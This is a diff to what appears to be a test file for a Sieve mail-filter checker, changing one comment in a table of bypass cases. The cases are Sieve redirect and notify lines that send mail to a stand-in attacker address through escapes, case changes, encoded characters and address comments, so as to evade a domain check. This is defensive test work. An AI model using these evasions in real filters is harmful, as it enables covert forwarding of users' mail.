@@ -46,7 +46,7 @@ const BYPASSES: Case[] = [
   { name: 'escape', requires: [], sieve: 'redirect "x\\@evil.example";', shows: 'redirect message to: <x@evil.example>', line: 1 },
   { name: 'upper case', requires: [], sieve: 'REDIRECT "x@evil.example";', shows: 'redirect message to: <x@evil.example>', line: 1 },
   { name: 'encoded character', requires: ['encoded-character'], sieve: 'redirect "x@evil${hex:2e}example";', shows: 'redirect message to: <x@evil.example>', line: 1 },
-  // Pigeonhole reads the parenthesised part as a comment; the old check took the last '@'.
+  // Pigeonhole reads the parenthesised part as a comment: only a plain address is judged by its domain.
   { name: 'address comment', requires: [], sieve: 'redirect "x@evil.example (ok@corp.example)";', shows: 'redirect message to: <x@evil.example>', line: 1 },
   { name: 'string list', requires: [], sieve: 'redirect ["x@evil.example", "ok@corp.example"];', shows: null, line: 1 },
   { name: 'deprecated notify', requires: ['notify'], sieve: 'notify :method "mailto" :options "x@evil.example";', shows: '+ To: x@evil.example', line: 1 },
